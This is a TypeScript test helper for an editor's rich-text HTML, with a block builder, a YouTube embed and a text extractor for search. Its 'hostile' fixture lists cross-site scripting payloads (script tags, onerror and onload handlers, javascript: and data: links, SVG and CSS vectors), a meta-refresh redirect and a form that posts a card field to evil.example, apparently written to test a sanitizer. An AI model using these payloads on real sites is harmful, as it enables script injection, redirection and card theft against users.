/** A tiny builder for the editors' rich-text HTML, and the plain text used by search. */

export type Block =
  | string
  | { h2: string }
  | { h3: string }
  | { ul: string[] }
  | { ol: string[] }
  | { quote: string }
  | { table: { head: string[]; rows: Array<Array<string | number>> } }
  | { raw: string };

/** Paragraph strings may hold inline HTML (`<strong>`, `<a>`): they are trusted fixtures. */
export function html(blocks: Block[]): string {
  return blocks.map(block).join('\n');
}

function block(b: Block): string {
  if (typeof b === 'string') return `<p>${b}</p>`;
  if ('h2' in b) return `<h2>${b.h2}</h2>`;
  if ('h3' in b) return `<h3>${b.h3}</h3>`;
  if ('ul' in b) return `<ul>${b.ul.map((li) => `<li>${li}</li>`).join('')}</ul>`;
  if ('ol' in b) return `<ol>${b.ol.map((li) => `<li>${li}</li>`).join('')}</ol>`;
  if ('quote' in b) return `<blockquote><p>${b.quote}</p></blockquote>`;
  if ('table' in b) {
    const head = b.table.head.map((h) => `<th>${h}</th>`).join('');
    const rows = b.table.rows.map((r) => `<tr>${r.map((c) => `<td>${c}</td>`).join('')}</tr>`).join('');
    return `<table><thead><tr>${head}</tr></thead><tbody>${rows}</tbody></table>`;
  }
  return b.raw;
}

export const youtube = (id: string) =>
  `<p><iframe width="560" height="315" src="https://www.youtube.com/embed/${id}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture" allowfullscreen></iframe></p>`;

/**
 * Hostile editor HTML: every payload sets `window.__xss`, beside harmless parts that must survive
 * (heading, paragraph, list, table, a web link, a picture typed without a size). `quiet` leaves out
 * what makes a network error in the browser (the YouTube embed; the missing picture, which the build
 * leaves out anyway), for pages every suite visits: its picture loads and carries an onload payload
 * instead, which would certainly run if it were kept.
 */
export const hostile = (heading: string, para: string, items: [string, string], cells: [string, string], quiet = false): Block[] => [
  { h2: heading },
  `${para} <strong>OK</strong> <em>OK</em>`,
  { raw: '<script>window.__xss = 1</script>' },
  {
    raw: quiet
      ? '<p><img src="/uploads/players/1.jpg" onload="window.__xss = 2" alt="loaded" width="40" height="40"></p>'
      : '<p><img src="x" onerror="window.__xss = 2" alt="broken"></p><p><img src="/uploads/photos/4.jpg" onerror="window.__xss = 15" alt="typed without a size"></p>',
  },
  { raw: '<p><a href="javascript:window.__xss = 3">javascript: link</a> · <a href="JaVaScRiPt:window.__xss=7">mixed case</a> · <a href="  javascript:window.__xss=8">leading spaces</a></p>' },
  { raw: '<p><a href="data:text/html,%3Cscript%3Ewindow.__xss%3D4%3C%2Fscript%3E">data: link</a></p>' },
  { raw: '<iframe src="https://evil.example/" width="300" height="150"></iframe>' },
  { raw: '<form action="https://evil.example/steal" method="post"><input name="card" autofocus onfocus="window.__xss = 9"><button type="submit">Send</button></form>' },
  { raw: '<svg onload="window.__xss = 5"><circle cx="10" cy="10" r="10"></circle></svg>' },
  { raw: '<style>body { display: none !important; } .x { background: url("javascript:window.__xss=10") }</style>' },
  { raw: '<p onclick="window.__xss = 6" style="position:fixed;inset:0">click anywhere</p>' },
  { raw: '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { raw: '<object data="javascript:window.__xss=11"></object><embed src="javascript:window.__xss=12">' },
  { ul: items },
  { table: { head: ['A', 'B'], rows: [cells, [1, 2]] } },
  { raw: '<p><a href="https://www.the-afc.com/" target="_blank">AFC</a></p>' },
  ...(quiet ? [] : [{ raw: youtube('Hn5cW2yPq7U') }]),
];

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", nbsp: ' ' };

/** The text a reader sees: tags dropped, script/style bodies dropped, entities decoded. */
export function textOf(markup: string | null | undefined): string {
  if (!markup) return '';
  return markup
    .replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1\s*>/gi, ' ')
    .replace(/<[^>]*>/g, ' ')
    .replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (m, e: string) => {
      if (e[0] === '#') {
        const code = e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10);
        return Number.isFinite(code) && code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : m;
      }
      return ENTITIES[e.toLowerCase()] ?? m;
    })
    .replace(/\s+/g, ' ')
    .trim();
}
